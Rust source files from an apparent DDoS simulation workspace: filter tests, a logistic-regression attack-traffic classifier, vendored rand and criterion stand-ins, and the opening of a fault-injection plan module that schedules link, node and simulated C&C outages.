                verdicts.push(f(&pkt(src, 540), t));
            }
            verdicts
        };
        let a = run();
        let b = run();
        assert_eq!(a, b, "same schedule, same verdicts");
        assert!(a.contains(&FilterVerdict::Drop), "schedule exercises drops");
        assert!(a.contains(&FilterVerdict::Allow), "schedule exercises allows");
    }

    #[test]
    fn structured_rule_matches_closure_filter_verdicts() {
        // into_rule() must be semantically identical to into_filter(): run
        // the same packet schedule through both and compare verdicts.
        let limiter = RateLimiter {
            rate_bps: 24_000,
            burst_bytes: 2_000,
        };
        let mut closure = limiter.into_filter();
        let mut stack = netsim::FilterStack::default();
        stack.push(limiter.into_rule());
        let blocklist = std::collections::BTreeSet::new();
        for i in 0..200u64 {
            let t = SimTime::from_millis(i * 37);
            let p = pkt((i % 3) as u8 + 1, 540);
            assert_eq!(
                closure(&p, t),
                stack.verdict(&p, t, &blocklist),
                "packet {i} diverged"
            );
        }
    }

    #[test]
    fn model_filter_blocks_flagged_sources_after_a_window() {
        use crate::classify::{synthetic_dataset, LogisticRegression, TrainConfig};
        use rand::SeedableRng;
        let mut rng = rand::rngs::SmallRng::seed_from_u64(5);
        let model =
            LogisticRegression::train(&synthetic_dataset(200, &mut rng), TrainConfig::default());
        let mut f = ModelFilter {
            model,
            window: Duration::from_secs(1),
            threshold: 0.5,
        }
        .into_filter();
        // Window 0: a flood from source 1 (100 × 540B constant-size).
        for i in 0..100 {
            let t = SimTime::from_millis(i * 10);
            let _ = f(&pkt(1, 540), t);
        }
        // Window 1: the source should now be blocked.
        let verdict = f(&pkt(1, 540), SimTime::from_millis(1500));
        assert_eq!(verdict, FilterVerdict::Drop, "flood source blocked after scoring");
    }
}
