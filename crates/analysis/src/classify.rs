//! A small logistic-regression classifier for the ML-defense use case
//! (§V-A): classify per-flow traffic aggregates as attack or benign.

use rand::seq::SliceRandom;
use rand::Rng;

/// A labeled sample: feature vector + attack label.
#[derive(Debug, Clone, PartialEq)]
pub struct Sample {
    /// Feature values.
    pub features: Vec<f64>,
    /// `true` for attack traffic.
    pub label: bool,
}

/// Standardization parameters learned on a training set.
#[derive(Debug, Clone, PartialEq)]
pub struct Standardizer {
    mean: Vec<f64>,
    std: Vec<f64>,
}

impl Standardizer {
    /// Fits mean/std per feature.
    ///
    /// # Panics
    ///
    /// Panics if `samples` is empty.
    pub fn fit(samples: &[Sample]) -> Self {
        assert!(!samples.is_empty(), "cannot standardize an empty set");
        let dim = samples[0].features.len();
        let n = samples.len() as f64;
        let mut mean = vec![0.0; dim];
        for s in samples {
            for (m, v) in mean.iter_mut().zip(&s.features) {
                *m += v / n;
            }
        }
        let mut std = vec![0.0; dim];
        for s in samples {
            for ((sd, v), m) in std.iter_mut().zip(&s.features).zip(&mean) {
                *sd += (v - m).powi(2) / n;
            }
        }
        for sd in &mut std {
            *sd = sd.sqrt().max(1e-9);
        }
        Standardizer { mean, std }
    }

    /// Standardizes one vector.
    pub fn apply(&self, features: &[f64]) -> Vec<f64> {
        features
            .iter()
            .zip(&self.mean)
            .zip(&self.std)
            .map(|((v, m), s)| (v - m) / s)
            .collect()
    }
}

/// L2-regularized logistic regression trained by mini-batch-free SGD.
///
/// # Examples
///
/// ```
/// use analysis::{synthetic_dataset, LogisticRegression, Metrics, TrainConfig, train_test_split};
/// use rand::SeedableRng;
///
/// let mut rng = rand::rngs::SmallRng::seed_from_u64(1);
/// let data = synthetic_dataset(100, &mut rng);
/// let (train, test) = train_test_split(data, 0.25, 2);
/// let model = LogisticRegression::train(&train, TrainConfig::default());
/// assert!(Metrics::evaluate(&model, &test).accuracy() > 0.9);
/// ```
#[derive(Debug, Clone, PartialEq)]
pub struct LogisticRegression {
    weights: Vec<f64>,
    bias: f64,
    standardizer: Standardizer,
}

/// Training hyperparameters.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct TrainConfig {
    /// Learning rate.
    pub learning_rate: f64,
    /// Passes over the data.
    pub epochs: usize,
    /// L2 penalty.
    pub l2: f64,
    /// Shuffle seed.
    pub seed: u64,
}

impl Default for TrainConfig {
    fn default() -> Self {
        TrainConfig {
            learning_rate: 0.05,
            epochs: 50,
            l2: 1e-4,
            seed: 7,
        }
    }
}

fn sigmoid(z: f64) -> f64 {
    1.0 / (1.0 + (-z).exp())
}

impl LogisticRegression {
    /// Trains on `samples`.
    ///
    /// # Panics
    ///
    /// Panics if `samples` is empty or feature dimensions disagree.
    pub fn train(samples: &[Sample], config: TrainConfig) -> Self {
        assert!(!samples.is_empty(), "cannot train on an empty set");
        let dim = samples[0].features.len();
        assert!(
            samples.iter().all(|s| s.features.len() == dim),
            "inconsistent feature dimensions"
        );
        let standardizer = Standardizer::fit(samples);
        let standardized: Vec<(Vec<f64>, f64)> = samples
            .iter()
            .map(|s| (standardizer.apply(&s.features), if s.label { 1.0 } else { 0.0 }))
            .collect();
        let mut weights = vec![0.0; dim];
        let mut bias = 0.0;
        let mut order: Vec<usize> = (0..standardized.len()).collect();
        let mut rng = rand::rngs::SmallRng::seed_from_u64(config.seed);
        for _ in 0..config.epochs {
            order.shuffle(&mut rng);
            for &i in &order {
                let (x, y) = &standardized[i];
                let z = bias + weights.iter().zip(x).map(|(w, v)| w * v).sum::<f64>();
                let err = sigmoid(z) - y;
                for (w, v) in weights.iter_mut().zip(x) {
                    *w -= config.learning_rate * (err * v + config.l2 * *w);
                }
                bias -= config.learning_rate * err;
            }
        }
        LogisticRegression {
            weights,
            bias,
            standardizer,
        }
    }

    /// Attack probability for a raw (unstandardized) feature vector.
    pub fn predict_probability(&self, features: &[f64]) -> f64 {
        let x = self.standardizer.apply(features);
        sigmoid(self.bias + self.weights.iter().zip(&x).map(|(w, v)| w * v).sum::<f64>())
    }

    /// Hard decision at threshold 0.5.
    pub fn predict(&self, features: &[f64]) -> bool {
        self.predict_probability(features) >= 0.5
    }
}

use rand::SeedableRng;

/// Binary-classification quality metrics.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Metrics {
    /// True positives.
    pub tp: u64,
    /// False positives.
    pub fp: u64,
    /// True negatives.
    pub tn: u64,
    /// False negatives.
    pub fn_: u64,
}

impl Metrics {
    /// Evaluates a trained model on a test set.
    pub fn evaluate(model: &LogisticRegression, test: &[Sample]) -> Self {
        let mut m = Metrics {
            tp: 0,
            fp: 0,
            tn: 0,
            fn_: 0,
        };
        for s in test {
            match (model.predict(&s.features), s.label) {
                (true, true) => m.tp += 1,
                (true, false) => m.fp += 1,
                (false, false) => m.tn += 1,
                (false, true) => m.fn_ += 1,
            }
        }
        m
    }

    /// Accuracy.
    pub fn accuracy(&self) -> f64 {
        let total = self.tp + self.fp + self.tn + self.fn_;
        if total == 0 {
            return 0.0;
        }
        (self.tp + self.tn) as f64 / total as f64
    }

    /// Precision (0 when no positives predicted).
    pub fn precision(&self) -> f64 {
        if self.tp + self.fp == 0 {
            return 0.0;
        }
        self.tp as f64 / (self.tp + self.fp) as f64
    }

    /// Recall.
    pub fn recall(&self) -> f64 {
        if self.tp + self.fn_ == 0 {
            return 0.0;
        }
        self.tp as f64 / (self.tp + self.fn_) as f64
    }

    /// F1 score.
    pub fn f1(&self) -> f64 {
        let p = self.precision();
        let r = self.recall();
        if p + r == 0.0 {
            return 0.0;
        }
        2.0 * p * r / (p + r)
    }
}

/// Deterministic train/test split.
pub fn train_test_split(mut samples: Vec<Sample>, test_fraction: f64, seed: u64) -> (Vec<Sample>, Vec<Sample>) {
    let mut rng = rand::rngs::SmallRng::seed_from_u64(seed);
    samples.shuffle(&mut rng);
    let test_n = ((samples.len() as f64) * test_fraction.clamp(0.0, 1.0)).round() as usize;
    let train = samples.split_off(test_n);
    (train, samples)
}

/// Generates a synthetic separable dataset (for tests and demos): attack
/// flows have many packets of constant size; benign flows are sparse and
/// variable.
pub fn synthetic_dataset<R: Rng + ?Sized>(n_per_class: usize, rng: &mut R) -> Vec<Sample> {
    let mut out = Vec::with_capacity(n_per_class * 2);
    for _ in 0..n_per_class {
        // Attack: high pps, fixed 540-byte frames, single port.
        let packets = rng.gen_range(80.0..140.0);
        out.push(Sample {
            features: vec![
                packets,
                packets * 540.0,
                540.0,
                rng.gen_range(0.0..2.0),
                1.0 / packets,
                1.0,
                1.0,
            ],
            label: true,
        });
        // Benign: low rate, variable sizes, several ports.
        let packets = rng.gen_range(1.0..12.0);
        let mean = rng.gen_range(80.0..900.0);
        out.push(Sample {
            features: vec![
                packets,
                packets * mean,
                mean,
                rng.gen_range(50.0..300.0),
                rng.gen_range(0.05..0.9),
                rng.gen_range(1.0..5.0),
                rng.gen_range(0.3..1.0),
            ],
            label: false,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::SmallRng;

    #[test]
    fn learns_synthetic_separation() {
        let mut rng = SmallRng::seed_from_u64(1);
        let data = synthetic_dataset(200, &mut rng);
        let (train, test) = train_test_split(data, 0.25, 2);
        let model = LogisticRegression::train(&train, TrainConfig::default());
        let metrics = Metrics::evaluate(&model, &test);
        assert!(
            metrics.accuracy() > 0.95,
            "accuracy {:.3} too low",
            metrics.accuracy()
        );
        assert!(metrics.f1() > 0.95);
    }

    #[test]
    fn metrics_arithmetic() {
        let m = Metrics {
            tp: 8,
            fp: 2,
            tn: 9,
            fn_: 1,
        };
        assert!((m.accuracy() - 0.85).abs() < 1e-12);
        assert!((m.precision() - 0.8).abs() < 1e-12);
        assert!((m.recall() - 8.0 / 9.0).abs() < 1e-12);
        assert!(m.f1() > 0.0);
    }

    #[test]
    fn degenerate_metrics_are_zero_not_nan() {
        let m = Metrics {
            tp: 0,
            fp: 0,
            tn: 0,
            fn_: 0,
        };
        assert_eq!(m.accuracy(), 0.0);
        assert_eq!(m.precision(), 0.0);
        assert_eq!(m.recall(), 0.0);
        assert_eq!(m.f1(), 0.0);
    }

    #[test]
    fn split_preserves_total() {
        let mut rng = SmallRng::seed_from_u64(3);
        let data = synthetic_dataset(50, &mut rng);
        let n = data.len();
        let (train, test) = train_test_split(data, 0.2, 4);
        assert_eq!(train.len() + test.len(), n);
        assert_eq!(test.len(), (n as f64 * 0.2).round() as usize);
    }

    #[test]
    #[should_panic(expected = "empty")]
    fn empty_training_panics() {
        let _ = LogisticRegression::train(&[], TrainConfig::default());
    }
}
