//! Sequence-related random operations.

use crate::{Rng, RngCore};

/// Random operations on slices.
pub trait SliceRandom {
    /// The element type.
    type Item;

    /// Shuffles the slice in place (Fisher–Yates).
    fn shuffle<R: RngCore>(&mut self, rng: &mut R);

    /// Returns a uniformly chosen element, or `None` if empty.
    fn choose<R: RngCore>(&self, rng: &mut R) -> Option<&Self::Item>;
}

impl<T> SliceRandom for [T] {
    type Item = T;

    fn shuffle<R: RngCore>(&mut self, rng: &mut R) {
        for i in (1..self.len()).rev() {
            let j = (&mut *rng).gen_range(0..=i);
            self.swap(i, j);
        }
    }

    fn choose<R: RngCore>(&self, rng: &mut R) -> Option<&T> {
        if self.is_empty() {
            None
        } else {
            self.get((&mut *rng).gen_range(0..self.len()))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rngs::SmallRng;
    use crate::SeedableRng;

    #[test]
    fn shuffle_is_a_permutation() {
        let mut rng = SmallRng::seed_from_u64(7);
        let mut v: Vec<u32> = (0..50).collect();
        v.shuffle(&mut rng);
        let mut sorted = v.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, (0..50).collect::<Vec<_>>());
    }

    #[test]
    fn shuffle_deterministic_per_seed() {
        let shuffled = |seed| {
            let mut rng = SmallRng::seed_from_u64(seed);
            let mut v: Vec<u32> = (0..20).collect();
            v.shuffle(&mut rng);
            v
        };
        assert_eq!(shuffled(3), shuffled(3));
        assert_ne!(shuffled(3), shuffled(4));
    }

    #[test]
    fn choose_handles_empty_and_nonempty() {
        let mut rng = SmallRng::seed_from_u64(1);
        let empty: [u8; 0] = [];
        assert!(empty.choose(&mut rng).is_none());
        let v = [5u8, 6, 7];
        assert!(v.contains(v.choose(&mut rng).expect("nonempty")));
    }
}
