//! In-tree, dependency-free stand-in for the `rand` crate.
//!
//! The build environment for this repository has no access to crates.io, so
//! the workspace vendors the *API subset* of `rand 0.8` it actually uses:
//! [`rngs::SmallRng`], [`SeedableRng::seed_from_u64`], the [`Rng`] helpers
//! (`gen`, `gen_range`, `gen_bool`), and [`seq::SliceRandom`]
//! (`shuffle`, `choose`).
//!
//! The generator is xoshiro256++ seeded through SplitMix64 — the same
//! algorithm family `rand 0.8` uses for `SmallRng` on 64-bit targets. Streams
//! are **not** guaranteed to be bit-identical to the upstream crate; every
//! consumer in this workspace treats the RNG as an opaque deterministic
//! stream keyed by the seed, which this implementation provides.

#![warn(missing_docs)]

pub mod rngs;
pub mod seq;

/// A low-level source of random 32/64-bit values.
pub trait RngCore {
    /// Returns the next 64 random bits.
    fn next_u64(&mut self) -> u64;

    /// Returns the next 32 random bits.
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }

    /// Fills `dest` with random bytes.
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        for chunk in dest.chunks_mut(8) {
            let bytes = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&bytes[..chunk.len()]);
        }
    }
}

impl<R: RngCore + ?Sized> RngCore for &mut R {
    fn next_u64(&mut self) -> u64 {
        (**self).next_u64()
    }
}

/// Construction of a generator from seed material.
pub trait SeedableRng: Sized {
    /// Creates a generator from a 64-bit seed.
    fn seed_from_u64(seed: u64) -> Self;
}

/// Types producible by [`Rng::gen`] (the `Standard` distribution subset).
pub trait Standard: Sized {
    /// Draws one value from `rng`.
    fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

impl Standard for u64 {
    fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64()
    }
}

impl Standard for u32 {
    fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u32()
    }
}

impl Standard for bool {
    fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Standard for f64 {
    fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        unit_f64(rng.next_u64())
    }
}

/// Maps 64 random bits onto `[0, 1)` with 53-bit precision.
fn unit_f64(bits: u64) -> f64 {
    (bits >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
}

/// A range usable with [`Rng::gen_range`].
pub trait SampleRange<T> {
    /// Draws one value from the range.
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

macro_rules! impl_int_range {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for core::ops::Range<$t> {
            fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "gen_range: empty range");
                let span = (self.end as u128).wrapping_sub(self.start as u128) as u128;
                let draw = (u128::from(rng.next_u64()) * span) >> 64;
                self.start.wrapping_add(draw as $t)
            }
        }
        impl SampleRange<$t> for core::ops::RangeInclusive<$t> {
            fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "gen_range: empty range");
                let span = (hi as u128) - (lo as u128) + 1;
                let draw = (u128::from(rng.next_u64()) * span) >> 64;
                lo.wrapping_add(draw as $t)
            }
        }
    )*};
}

impl_int_range!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl SampleRange<f64> for core::ops::Range<f64> {
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> f64 {
        assert!(self.start < self.end, "gen_range: empty range");
        self.start + unit_f64(rng.next_u64()) * (self.end - self.start)
    }
}

impl SampleRange<f64> for core::ops::RangeInclusive<f64> {
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> f64 {
        let (lo, hi) = (*self.start(), *self.end());
        assert!(lo <= hi, "gen_range: empty range");
        lo + unit_f64(rng.next_u64()) * (hi - lo)
    }
}

/// Convenience sampling methods layered over [`RngCore`].
pub trait Rng: RngCore {
    /// Draws a value of type `T` (the `Standard` distribution).
    fn gen<T: Standard>(&mut self) -> T {
        T::sample_standard(self)
    }

    /// Draws a value uniformly from `range`.
    fn gen_range<T, Ra: SampleRange<T>>(&mut self, range: Ra) -> T {
        range.sample_single(self)
    }

    /// Returns `true` with probability `p`.
    ///
    /// # Panics
    ///
    /// Panics if `p` is not in `[0, 1]`.
    fn gen_bool(&mut self, p: f64) -> bool {
        assert!((0.0..=1.0).contains(&p), "gen_bool: p = {p} out of range");
        unit_f64(self.next_u64()) < p
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

#[cfg(test)]
mod tests {
    use super::rngs::SmallRng;
    use super::*;

    #[test]
    fn deterministic_per_seed() {
        let mut a = SmallRng::seed_from_u64(9);
        let mut b = SmallRng::seed_from_u64(9);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut c = SmallRng::seed_from_u64(10);
        assert_ne!(SmallRng::seed_from_u64(9).next_u64(), c.next_u64());
    }

    #[test]
    fn gen_range_stays_in_bounds() {
        let mut rng = SmallRng::seed_from_u64(1);
        for _ in 0..1000 {
            let v: u64 = rng.gen_range(10..20);
            assert!((10..20).contains(&v));
            let w: f64 = rng.gen_range(-1.0..1.0);
            assert!((-1.0..1.0).contains(&w));
            let x: u32 = rng.gen_range(5..=5);
            assert_eq!(x, 5);
        }
    }

    #[test]
    fn gen_bool_extremes() {
        let mut rng = SmallRng::seed_from_u64(2);
        assert!(!rng.gen_bool(0.0));
        assert!(rng.gen_bool(1.0));
    }

    #[test]
    fn unit_f64_in_range() {
        assert!(unit_f64(0) >= 0.0);
        assert!(unit_f64(u64::MAX) < 1.0);
    }

    #[test]
    fn gen_bool_rate_roughly_tracks_p() {
        let mut rng = SmallRng::seed_from_u64(3);
        let hits = (0..10_000).filter(|_| rng.gen_bool(0.25)).count();
        assert!((2000..3000).contains(&hits), "got {hits}");
    }

    #[test]
    fn fill_bytes_covers_partial_chunks() {
        let mut rng = SmallRng::seed_from_u64(4);
        let mut buf = [0u8; 13];
        rng.fill_bytes(&mut buf);
        assert!(buf.iter().any(|&b| b != 0));
    }
}
