//! Concrete generators.

use crate::{RngCore, SeedableRng};

/// A small, fast, non-cryptographic generator: xoshiro256++, seeded via
/// SplitMix64 — the algorithm family `rand 0.8` uses for its `SmallRng` on
/// 64-bit targets.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SmallRng {
    s: [u64; 4],
}

impl SmallRng {
    /// The four xoshiro256++ state words, exposed so simulators can fold
    /// the exact generator position into determinism digests.
    pub fn state_words(&self) -> [u64; 4] {
        self.s
    }

    fn from_state(seed: u64) -> Self {
        // SplitMix64 expansion of the 64-bit seed into 256 bits of state.
        let mut sm = seed;
        let mut next = || {
            sm = sm.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = sm;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        };
        let s = [next(), next(), next(), next()];
        SmallRng { s }
    }
}

impl SeedableRng for SmallRng {
    fn seed_from_u64(seed: u64) -> Self {
        SmallRng::from_state(seed)
    }
}

impl RngCore for SmallRng {
    fn next_u64(&mut self) -> u64 {
        // xoshiro256++ step.
        let result = self.s[0]
            .wrapping_add(self.s[3])
            .rotate_left(23)
            .wrapping_add(self.s[0]);
        let t = self.s[1] << 17;
        self.s[2] ^= self.s[0];
        self.s[3] ^= self.s[1];
        self.s[1] ^= self.s[2];
        self.s[0] ^= self.s[3];
        self.s[2] ^= t;
        self.s[3] = self.s[3].rotate_left(45);
        result
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn distinct_seeds_distinct_streams() {
        let a: Vec<u64> = {
            let mut r = SmallRng::seed_from_u64(1);
            (0..8).map(|_| r.next_u64()).collect()
        };
        let b: Vec<u64> = {
            let mut r = SmallRng::seed_from_u64(2);
            (0..8).map(|_| r.next_u64()).collect()
        };
        assert_ne!(a, b);
    }

    #[test]
    fn zero_seed_is_not_degenerate() {
        let mut r = SmallRng::seed_from_u64(0);
        let vals: Vec<u64> = (0..4).map(|_| r.next_u64()).collect();
        assert!(vals.iter().any(|&v| v != 0));
    }
}
