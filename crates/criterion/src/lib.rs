//! In-tree, offline stand-in for the `criterion` benchmark harness.
//!
//! The build environment for this repository cannot reach crates.io, so the
//! workspace vendors the subset of the criterion API its benches use:
//! [`Criterion`], [`BenchmarkGroup`], [`BenchmarkId`], [`Throughput`],
//! [`BatchSize`], `iter`/`iter_batched`, and the [`criterion_group!`] /
//! [`criterion_main!`] macros.
//!
//! It is a *measurement* harness, not a statistics suite: each benchmark
//! runs a warm-up iteration followed by `sample_size` timed samples and
//! reports the mean, min, and throughput on stdout. Passing `--smoke` (or
//! setting `DDOSIM_BENCH_SMOKE=1`) drops to one sample per benchmark so CI
//! can execute every bench body quickly as a regression test.

#![warn(missing_docs)]

pub use std::hint::black_box;
use std::time::{Duration, Instant};

/// How the cost of `iter_batched` setup relates to the routine.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BatchSize {
    /// Small per-iteration inputs.
    SmallInput,
    /// Large per-iteration inputs.
    LargeInput,
    /// Setup re-runs for every routine invocation.
    PerIteration,
}

/// Units processed per iteration, for throughput reporting.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Throughput {
    /// Elements (packets, events, …) per iteration.
    Elements(u64),
    /// Bytes per iteration.
    Bytes(u64),
}

/// Identifier of a parameterised benchmark.
#[derive(Debug, Clone)]
pub struct BenchmarkId {
    id: String,
}

impl BenchmarkId {
    /// An id formed from a function name and a parameter.
    pub fn new(function: impl Into<String>, parameter: impl std::fmt::Display) -> Self {
        BenchmarkId { id: format!("{}/{}", function.into(), parameter) }
    }

    /// An id formed from the parameter alone.
    pub fn from_parameter(parameter: impl std::fmt::Display) -> Self {
        BenchmarkId { id: parameter.to_string() }
    }
}

/// Whether smoke mode (one sample per bench) is active.
pub fn smoke_mode() -> bool {
    std::env::args().any(|a| a == "--smoke")
        || std::env::var("DDOSIM_BENCH_SMOKE").map(|v| v == "1").unwrap_or(false)
}

/// The benchmark harness entry point.
#[derive(Debug)]
pub struct Criterion {
    sample_size: usize,
}

impl Default for Criterion {
    fn default() -> Self {
        Criterion { sample_size: 20 }
    }
}

impl Criterion {
    /// Sets the number of timed samples per benchmark.
    #[must_use]
    pub fn sample_size(mut self, n: usize) -> Self {
        self.sample_size = n.max(1);
        self
    }

    /// Opens a named group of related benchmarks.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        let sample_size = self.sample_size;
        BenchmarkGroup {
            _parent: self,
            name: name.into(),
            sample_size,
            throughput: None,
        }
    }

    /// Runs a standalone benchmark.
    pub fn bench_function(&mut self, name: &str, f: impl FnMut(&mut Bencher)) {
        let sample_size = self.sample_size;
        run_bench(name, sample_size, None, f);
    }
}

/// A named group of benchmarks sharing sample-size and throughput settings.
pub struct BenchmarkGroup<'a> {
    _parent: &'a mut Criterion,
    name: String,
    sample_size: usize,
    throughput: Option<Throughput>,
}

impl BenchmarkGroup<'_> {
    /// Sets the number of timed samples for benches in this group.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n.max(1);
        self
    }

    /// Declares per-iteration throughput for benches in this group.
    pub fn throughput(&mut self, t: Throughput) -> &mut Self {
        self.throughput = Some(t);
        self
    }

    /// Runs one benchmark in the group.
    pub fn bench_function(&mut self, name: impl std::fmt::Display, f: impl FnMut(&mut Bencher)) {
        let full = format!("{}/{}", self.name, name);
        run_bench(&full, self.sample_size, self.throughput, f);
    }

    /// Runs one parameterised benchmark in the group.
    pub fn bench_with_input<I>(
        &mut self,
        id: BenchmarkId,
        input: &I,
        mut f: impl FnMut(&mut Bencher, &I),
    ) {
        let full = format!("{}/{}", self.name, id.id);
        run_bench(&full, self.sample_size, self.throughput, |b| f(b, input));
    }

    /// Finishes the group (reporting is per-bench; nothing buffered).
    pub fn finish(self) {}
}

/// Passed to each benchmark closure; runs and times the routine.
pub struct Bencher {
    samples: Vec<Duration>,
    iters_per_sample: u64,
}

impl Bencher {
    /// Times `routine` directly.
    pub fn iter<O>(&mut self, mut routine: impl FnMut() -> O) {
        let start = Instant::now();
        black_box(routine());
        self.samples.push(start.elapsed());
        self.iters_per_sample = 1;
    }

    /// Times `routine` over inputs built by `setup` (setup time excluded).
    pub fn iter_batched<I, O>(
        &mut self,
        mut setup: impl FnMut() -> I,
        mut routine: impl FnMut(I) -> O,
        _size: BatchSize,
    ) {
        let input = setup();
        let start = Instant::now();
        black_box(routine(input));
        self.samples.push(start.elapsed());
        self.iters_per_sample = 1;
    }
}

fn run_bench(name: &str, sample_size: usize, throughput: Option<Throughput>, mut f: impl FnMut(&mut Bencher)) {
    let samples = if smoke_mode() { 1 } else { sample_size };
    let mut b = Bencher { samples: Vec::new(), iters_per_sample: 1 };
    // Warm-up (not recorded) unless smoking.
    if !smoke_mode() {
        f(&mut b);
        b.samples.clear();
    }
    for _ in 0..samples {
        f(&mut b);
    }
    let total: Duration = b.samples.iter().sum();
    let n = b.samples.len().max(1) as u32;
    let mean = total / n;
    let min = b.samples.iter().min().copied().unwrap_or_default();
    let rate = |units: u64, d: Duration| -> f64 {
        if d.is_zero() {
            f64::INFINITY
        } else {
            units as f64 / d.as_secs_f64()
        }
    };
    match throughput {
        Some(Throughput::Elements(e)) => println!(
            "bench {name}: mean {mean:?} min {min:?} ({:.0} elem/s)",
            rate(e, mean)
        ),
        Some(Throughput::Bytes(by)) => println!(
            "bench {name}: mean {mean:?} min {min:?} ({:.0} B/s)",
            rate(by, mean)
        ),
        None => println!("bench {name}: mean {mean:?} min {min:?}"),
    }
}

/// Declares a group of benchmark functions.
#[macro_export]
macro_rules! criterion_group {
    (name = $name:ident; config = $config:expr; targets = $($target:path),+ $(,)?) => {
        fn $name() {
            let mut c: $crate::Criterion = $config;
            $( $target(&mut c); )+
        }
    };
    ($name:ident, $($target:path),+ $(,)?) => {
        fn $name() {
            let mut c = $crate::Criterion::default();
            $( $target(&mut c); )+
        }
    };
}

/// Declares the benchmark binary's `main`, running each group.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bench_function_runs_and_reports() {
        let mut c = Criterion::default().sample_size(2);
        let mut runs = 0;
        c.bench_function("unit/test", |b| {
            b.iter(|| {
                runs += 1;
            })
        });
        // warm-up + 2 samples
        assert_eq!(runs, 3);
    }

    #[test]
    fn groups_run_batched_bodies() {
        let mut c = Criterion::default();
        let mut group = c.benchmark_group("g");
        group.sample_size(1).throughput(Throughput::Elements(10));
        let mut calls = 0;
        group.bench_function("b", |b| {
            b.iter_batched(|| 41, |x| x + 1, BatchSize::SmallInput);
            calls += 1;
        });
        group.finish();
        assert!(calls >= 1);
    }

    #[test]
    fn benchmark_id_formats() {
        assert_eq!(BenchmarkId::new("f", 3).id, "f/3");
        assert_eq!(BenchmarkId::from_parameter(100).id, "100");
    }
}
