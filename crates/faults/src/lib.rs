//! # faults — deterministic fault-injection plans
//!
//! A [`FaultPlan`] is a schema-tagged djson document (like the telemetry
//! configs) that schedules faults on the simulation clock: link down/up
//! flaps, per-link corruption probability, hard node crashes, C&C outage
//! windows, and firmware container kills. The plan itself is pure data —
//! targets are node *names* ("dev-3", "attacker", "tserver") resolved by
//! `ddosim-core` when the instance is assembled, so a plan file is
//! portable across runs and sweep points.
//!
//! Determinism contract: the same simulation seed plus the same plan
//! yields byte-identical telemetry documents, and an empty plan is a
//! strict no-op — it schedules nothing, draws nothing, and leaves every
//! RNG stream of a plan-free run untouched.

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod plan;

pub use plan::{check_schema, reject_unknown_fields, PlanError};

use djson::{FromJson, Json, JsonError, ToJson};
use std::time::Duration;

/// Schema tag carried by every serialized fault plan.
pub const FAULT_PLAN_SCHEMA: &str = "ddosim.faults.plan/1";

/// What to inject. Targets are node names as assigned at assembly time
/// ("dev-0".."dev-N", "attacker", "tserver"); link faults apply to the
/// target node's access link(s).
#[derive(Debug, Clone, PartialEq)]
pub enum FaultKind {
    /// Administratively cut the node's access link: queued frames drop,
    /// in-flight frames never arrive, and everything offered while down
    /// is dropped at enqueue.
    LinkDown {
        /// Target node name.
        node: String,
    },
    /// Restore the node's access link after a [`FaultKind::LinkDown`].
    LinkUp {
        /// Target node name.
        node: String,
    },
    /// Set the per-frame corruption/loss probability of the node's access
    /// link (the wired extension of Wi-Fi's `loss_probability`).
    LinkLoss {
        /// Target node name.
        node: String,
        /// Loss probability in `[0, 1]`; `0.0` restores a clean link.
        probability: f64,
    },
    /// Hard node crash: the container's volatile state dies instantly
    /// (non-daemon processes killed, `/tmp` wiped) and the node goes dark
    /// with no scheduled recovery — unlike churn's graceful reboot cycle,
    /// nothing runs a shutdown path and nothing brings the node back
    /// unless the plan contains a matching [`FaultKind::NodeRestore`].
    NodeCrash {
        /// Target node name.
        node: String,
    },
    /// Power a crashed node back on (its firmware daemons restart).
    NodeRestore {
        /// Target node name.
        node: String,
    },
    /// Take the whole attacker host down — C&C, file server, and exploit
    /// services all vanish and every bot connection dies. With a duration
    /// the host restarts after the window; without one it stays down.
    CncOutage {
        /// Outage window; `None` means the C&C never comes back.
        duration: Option<Duration>,
    },
    /// Kill the node's firmware container in place (OOM-killer model):
    /// non-daemon processes die and volatile state is wiped, but the node
    /// itself stays on the network and its daemons keep running.
    ContainerKill {
        /// Target node name.
        node: String,
    },
}

impl FaultKind {
